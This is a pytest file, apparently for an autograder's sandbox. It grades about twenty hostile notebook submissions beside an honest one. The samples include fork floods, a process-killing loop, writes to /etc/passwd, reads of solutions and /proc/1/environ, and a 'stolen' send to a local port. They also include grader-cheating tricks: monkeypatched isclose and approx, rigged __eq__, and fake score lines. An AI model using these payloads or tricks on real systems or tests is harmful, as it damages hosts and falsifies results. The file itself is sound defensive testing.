"""Student code is hostile. Each entry below makes ps1's `f` (or its cell) misbehave; all of
them are graded in one batch, through the real command line, beside an honest submission.
The batch must finish in bounded time, the honest notebook keep full marks, the hostile
function get 0 with a clear message (the rest of that notebook is still graded), and nothing
outside the sandboxes may change: files, the grader's output, processes, the network."""
from __future__ import annotations

import hashlib
import json
import os
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from helpers import ROOT, make_submission

pytestmark = pytest.mark.skipif(sys.platform != "linux", reason="the sandbox is Linux-only")

TEST_TIMEOUT = 2
CELL_TIMEOUT = 4
UID_BASE = 61500


def hostile_cases(honest: Path, home_sentinel: Path, tmp_sentinel: Path, port: int) -> dict[str, str]:
    reference = ROOT / "solutions" / "ps1_derivatives.py"
    return {
        "infinite loop": "def f(x):\n    while True:\n        pass\n",
        "infinite loop ignoring signals": (
            "import signal\n"
            "for s in (signal.SIGTERM, signal.SIGINT, signal.SIGALRM, signal.SIGHUP, signal.SIGXCPU, signal.SIGUSR1):\n"
            "    signal.signal(s, signal.SIG_IGN)\n"
            "def f(x):\n    while True:\n        pass\n"),
        "allocates 6 GB": "import numpy as np\ndef f(x):\n    block = np.ones(6 * 2**30 // 8)\n    return x ** 2 + block[0] - 1\n",
        "fork flood": (
            "import os\n"
            "def f(x):\n"
            "    while True:\n"
            "        try:\n            os.fork()\n"
            "        except OSError:\n            pass\n"),
        "segfault": "import ctypes\ndef f(x):\n    return ctypes.string_at(0)\n",
        "os._exit in the function": "import os\ndef f(x):\n    os._exit(3)\n",
        "os._exit at the top of the cell": "import os\nos._exit(1)\ndef f(x):\n    return x ** 2\n",
        "sys.exit at the top of the cell": "import sys\nsys.exit(0)\ndef f(x):\n    return x ** 2\n",
        "unbounded recursion": "def f(x):\n    return f(x) + 1\n",
        "huge return value": "import numpy as np\ndef f(x):\n    return np.zeros(60_000_000)\n",
        "output flood": "def f(x):\n    while True:\n        print('x' * 100_000)\n",
        "stuck non-daemon thread": (
            "import threading\n"
            "def _spin():\n    while True:\n        pass\n"
            "def f(x):\n    worker = threading.Thread(target=_spin)\n    worker.start()\n    worker.join()\n"),
        "input()": "def f(x):\n    return float(input('x = ')) ** 2\n",
        "monkeypatches numpy, math, torch and pytest": (
            "import math\nimport numpy as np\nimport torch\n"
            "np.isclose = np.allclose = np.array_equal = lambda *a, **k: True\n"
            "math.isclose = lambda *a, **k: True\n"
            "torch.allclose = lambda *a, **k: True\n"
            "try:\n    import pytest\n    pytest.approx = lambda *a, **k: 0.0\nexcept ImportError:\n    pass\n"
            "def f(x):\n    return 0.0\n"),
        "rigged comparisons": (
            "import numpy as np\n"
            "class Liar(float):\n"
            "    def __eq__(self, other):\n        return True\n"
            "    def __ne__(self, other):\n        return False\n"
            "    __hash__ = float.__hash__\n"
            "class ArrayLiar(np.ndarray):\n"
            "    def __eq__(self, other):\n        return np.ones(self.shape, dtype=bool)\n"
            "    def tolist(self):\n        return [1.0] * self.size\n"
            "def f(x):\n"
            "    if np.ndim(x):\n        return np.zeros(np.shape(x)).view(ArrayLiar)\n"
            "    return Liar(-1.0)\n"),
        "walks frames and gc for the expected values": (
            "import gc, sys\n"
            "def f(x):\n"
            "    for obj in gc.get_objects():\n"
            "        if isinstance(obj, dict) and 'expected' in obj:\n            return obj['expected']\n"
            "    frame = sys._getframe()\n"
            "    while frame is not None:\n"
            "        if 'expected' in frame.f_locals:\n            return frame.f_locals['expected']\n"
            "        frame = frame.f_back\n"
            "    return None\n"),
        "reads the solutions and other submissions": (
            "def f(x):\n"
            "    found = {}\n"
            f"    for path in [{str(reference)!r}, {str(honest)!r}, '/proc/1/environ']:\n"
            "        try:\n            exec(open(path).read(), found)\n"
            "        except Exception:\n            pass\n"
            "    return found['f'](x)\n"),
        "writes outside its scratch directory": (
            "import os\n"
            "def f(x):\n"
            f"    for path in [{str(reference)!r}, {str(honest)!r}, {str(home_sentinel)!r}, {str(tmp_sentinel)!r},"
            " '/etc/passwd', '/usr/lib/pwned']:\n"
            "        try:\n            open(path, 'w').write('pwned')\n"
            "        except OSError:\n            pass\n"
            "    return x ** 3\n"),
        "connects to a local port": (
            "import socket\n"
            "def f(x):\n"
            f"    connection = socket.create_connection(('127.0.0.1', {port}), timeout=1)\n"
            "    connection.sendall(b'stolen')\n"
            "    return x ** 2\n"),
        "signals every process it can see": (
            "import os, signal\n"
            "def f(x):\n"
            "    for pid in (os.getppid(), 1, -1):\n"
            "        try:\n            os.kill(pid, signal.SIGKILL)\n"
            "        except OSError:\n            pass\n"
            "    return x ** 3\n"),
        "prints fake grader output": (
            "import os, sys\n"
            "fake = '{\"submission\": \"fake\", \"status\": \"graded\", \"score\": 999.0}\\n'\n"
            "print(fake)\nsys.__stdout__.write(fake)\nos.write(1, fake.encode())\nos.write(2, fake.encode())\n"
            "def f(x):\n    print(fake)\n    return -x\n"),
    }


def _digest(paths: list[Path]) -> dict[str, str]:
    return {str(p): hashlib.sha256(p.read_bytes()).hexdigest() for p in paths if p.is_file()}


def _processes_of(uids: range) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if entry.stat().st_uid in uids:
                    found.append(int(entry.name))
            except OSError:
                pass
    return found


class Listener:
    """A TCP server on the grader's loopback that records every connection."""

    def __init__(self):
        self.server = socket.socket()
        self.server.bind(("127.0.0.1", 0))
        self.server.listen()
        self.port = self.server.getsockname()[1]
        self.connections = 0
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self):
        while True:
            try:
                connection, _ = self.server.accept()
            except OSError:
                return
            self.connections += 1
            connection.close()


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    honest = make_submission("ps1_derivatives", folder / "honest student.ipynb")
    home_sentinel = Path.home() / f".autograder-sentinel-{os.getpid()}"
    tmp_sentinel = Path("/tmp") / f"autograder-sentinel-{os.getpid()}"
    for sentinel in (home_sentinel, tmp_sentinel):
        sentinel.write_text("untouched")
    listener = Listener()
    cases = hostile_cases(honest, home_sentinel, tmp_sentinel, listener.port)
    paths = {label: make_submission("ps1_derivatives", folder / f"hostile {i:02d} 学生.ipynb", {"f": code})
             for i, (label, code) in enumerate(cases.items())}
    watched = [honest, home_sentinel, tmp_sentinel, *sorted((ROOT / "solutions").glob("*.py")),
               *sorted((ROOT / "release").rglob("*.ipynb")), *sorted((ROOT / "autograder").rglob("*.py"))]
    before = _digest(watched)
    scratch = folder / "scratch"   # the grader's TMPDIR: where it makes sandbox directories
    scratch.mkdir()
    config = ROOT / "nbgrader_config.py"
    command = [sys.executable, "-m", "autograder", "grade", str(honest), *map(str, paths.values()),
               "--assignment", "ps1_derivatives", "--json", "--workers", "2",
               "--test-timeout", str(TEST_TIMEOUT), "--cell-timeout", str(CELL_TIMEOUT), "--uid-base", str(UID_BASE)]
    env = dict(os.environ, TMPDIR=str(scratch))
    started = time.monotonic()
    done = subprocess.run(command, capture_output=True, text=True, timeout=600, env=env, cwd=ROOT)
    elapsed = time.monotonic() - started
    time.sleep(0.5)
    yield {
        "done": done, "elapsed": elapsed, "honest": honest, "paths": paths, "listener": listener,
        "changed": {p for p, h in _digest(watched).items() if before.get(p) != h},
        "scratch_left": list(scratch.iterdir()),
        "config_unchanged": config.is_file(),
    }
    for sentinel in (home_sentinel, tmp_sentinel):
        sentinel.unlink(missing_ok=True)
    listener.server.close()


def _results(batch) -> dict[str, dict]:
    return {json.loads(line)["submission"]: json.loads(line) for line in batch["done"].stdout.splitlines()}


def test_batch_finishes_in_bounded_time_and_exits_cleanly(batch):
    assert batch["done"].returncode == 0, batch["done"].stderr[-3000:]
    # 21 notebooks; the slow ones cost at most their tests' time limits (2 tests of f each).
    assert batch["elapsed"] < 150, batch["elapsed"]


def test_grader_output_is_only_its_own_json_lines(batch):
    lines = batch["done"].stdout.splitlines()
    assert len(lines) == 1 + len(batch["paths"])
    submissions = {json.loads(line)["submission"] for line in lines}
    assert submissions == {str(batch["honest"]), *map(str, batch["paths"].values())}
    assert "999" not in batch["done"].stdout


def test_honest_submission_keeps_full_marks(batch):
    result = _results(batch)[str(batch["honest"])]
    assert result["status"] == "graded" and result["score"] == result["max_score"] == 12.0


@pytest.mark.parametrize("label", list(hostile_cases(Path("h"), Path("s"), Path("t"), 1)))
def test_hostile_function_gets_zero_and_nothing_else_is_lost(batch, label):
    result = _results(batch)[str(batch["paths"][label])]
    assert result["status"] == "graded", result["error"]
    f_tests = [t for t in result["tests"] if t["name"].startswith("f: ")]
    pointed = [t for t in f_tests if t["max_score"] > 0]
    assert pointed and all(t["score"] == 0 and t["status"] == "failed" for t in pointed), f_tests
    assert all(t["output"] and "内部出错" not in t["output"] for t in pointed), [t["output"] for t in pointed]
    others = [t for t in result["tests"] if not t["name"].startswith("f: ")]
    lost = [(t["name"], t["output"]) for t in others if t["score"] < t["max_score"]]
    assert not lost, f"{label}: a hang or crash in f must not cost other functions: {lost}"


def test_nothing_outside_the_sandboxes_changed(batch):
    assert not batch["changed"], batch["changed"]
    assert batch["listener"].connections == 0
    assert not batch["scratch_left"], batch["scratch_left"]


def test_no_student_process_survives(batch):
    assert _processes_of(range(UID_BASE, UID_BASE + 100)) == []


def test_protections_are_reported(batch):
    result = _results(batch)[str(batch["honest"])]
    text = " ".join(result["protections"])
    assert "PID namespace" in text and "network namespace" in text and "文件系统视图" in text
